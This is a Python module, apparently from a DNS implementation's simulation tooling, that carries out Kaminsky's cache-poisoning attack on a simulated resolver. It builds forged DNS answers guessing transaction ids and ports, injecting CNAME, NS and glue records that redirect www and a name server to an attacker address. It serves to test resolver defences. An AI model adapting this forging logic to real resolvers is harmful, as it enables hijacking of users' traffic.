"""Kaminsky's attack (2008) on the resolver of a simulation.

The attacker can make the resolver ask for names that he chooses, as anybody behind it can, and can send packets with any
source address.  He knows the zone, its servers, when a question leaves and for whom: all but what is random.  So he
asks for names that do not exist, each a new race that needs no waiting for a TTL; in each he sends as many forged
answers as fit before the true one, and in them not only the name asked for but what he is after: www of the zone, its
name servers, and their addresses.  A lucky one is enough.

To guess well he first asks for a name of his own zone, where he sees the port and the id that the resolver uses: half of
his packets bet on these going on as they did, the other half on anything.
"""

import random
import struct
from dataclasses import dataclass
from typing import Final

from stack.config import SECOND
from stack.dns.constants import RRType
from stack.dns.core.actions import Answer, SendUdp
from stack.dns.names import Name
from tools.dns_internet.simulation import PORTS, SELF, Outcome, Simulation
from tools.dns_internet.world import SimServer, Zone

EVIL: Final = bytes((66, 6, 6, 6))
EVIL_TEXT: Final = "66.6.6.6"
PER_RACE: Final = 2_000  # forged answers between a question and its answer: 1 Gbit/s for 20 ms
BET: Final = 200  # of these on the port seen, with ids that follow the one seen
PATIENCE_US: Final = 10 * SECOND
QR_AA: Final = 0x8400
TTL: Final = 86_400


@dataclass(slots=True)
class Verdict:
    """How an attack ended."""

    forged: int = 0
    races: int = 0
    delivered: int = 0  # came to an open port with the address of the server asked
    believed: bool = False  # a client was given the attacker's address, for a name that he chose
    captured: bool = False  # the same for www of the zone: whoever asks is his


class Attacker:
    """One attack; `run` until he has what he wants or has sent enough.  He owns the zone `own`, and attacks `victim`."""

    __slots__ = ("_net", "_own", "_own_servers", "_race", "_rng", "_seen", "_victim", "verdict")

    def __init__(self, net: Simulation, victim: Zone, own: Zone, seed: int = 1) -> None:
        self._net, self._victim, self._own = net, victim, own
        self._own_servers = {address for _, address in own.servers}
        self._rng = random.Random(f"attacker {seed}")
        self._race = Name.parse(victim.name)
        self._seen = (0, 0)  # port and id of a question to his own servers
        self.verdict = Verdict()
        net.on_send = self._on_send

    def run(self, packets: int) -> Verdict:
        """Attack with that many forged answers at most."""
        www = Name.parse(f"www.{self._victim.name}")
        # RFC 5452 §4.2: a name that is in the cache cannot be raced for; that is what this attack is about
        self._ask(www)
        verdict = self.verdict
        while verdict.forged < packets and not verdict.believed:
            self._ask(Name.parse(f"seen{verdict.races}.{self._own.name}"))
            self._race = Name.parse(f"race{verdict.races}.{self._victim.name}")
            verdict.races += 1
            verdict.believed = is_his(self._ask(self._race))
        if verdict.believed:
            self._net.run_to(self._net.now + 2 * TTL * SECOND // 48)  # what was believed goes on to hold
            verdict.captured = is_his(self._ask(www))
        return verdict

    def _ask(self, name: Name) -> Outcome:
        outcome = self._net.resolve(name, RRType.A, PATIENCE_US)
        return outcome

    def _on_send(self, sent: SendUdp) -> None:
        """The resolver asks somebody something.  To his own servers he sees all, else only that and whom."""
        if sent.server[0] in self._own_servers:
            port = next(port for port, servers in self._net.ports.items() if sent.exchange in servers.get(sent.server, ()))
            self._seen = port, int.from_bytes(sent.wire[:2], "big")
        elif any(sent.server[0] == address for _, address in self._victim.servers):
            self._net.at(self._net.now + 1, lambda: self._forge(sent))

    def _forge(self, sent: SendUdp) -> None:
        """A burst of answers, before the true one can be there."""
        net, rng, verdict = self._net, self._rng, self.verdict
        tail = self._answer()
        seen_port, seen_id = self._seen
        for number in range(PER_RACE):
            if number < BET:
                port, guess = seen_port, (seen_id + 1 + number) & 0xFFFF
            else:
                bits = rng.getrandbits(32)
                port, guess = bits >> 16, bits & 0xFFFF
            verdict.forged += 1
            net.counts.forged += 1
            if port in net.ports:
                verdict.delivered += net.deliver(port, sent.server, guess.to_bytes(2, "big") + tail)

    def _answer(self) -> bytes:
        """All of a forged answer but its id; the case of its letters is anyone's guess."""
        asked, victim = self._race, Name.parse(self._victim.name)
        bits = self._rng.getrandbits(8 * len(asked)).to_bytes(len(asked), "big")
        cased = bytes(c ^ (b & 0x20) if chr(c).isalpha() and c > 63 else c for c, b in zip(asked, bits, strict=True))
        question = cased + struct.pack("!2H", RRType.A, 1)
        www, server = victim.child(b"www"), victim.child(b"ns66")
        # the name asked for is an alias of what he is after, whose address stands beside it
        answer = record(asked, RRType.CNAME, www) + record(www, RRType.A, EVIL)
        authority = record(victim, RRType.NS, server)
        additional = record(server, RRType.A, EVIL)
        return struct.pack("!5H", QR_AA, 1, 2, 1, 1) + question + answer + authority + additional


def record(owner: bytes, rrtype: int, rdata: bytes) -> bytes:
    """One record on the wire."""
    return owner + struct.pack("!2HIH", rrtype, 1, TTL, len(rdata)) + rdata


def is_his(outcome: Outcome) -> bool:
    """The client was given the attacker's address."""
    result = outcome.result
    return isinstance(result, Answer) and any(EVIL_TEXT in str(rdata) for rdata in result.rrset.rdatas)
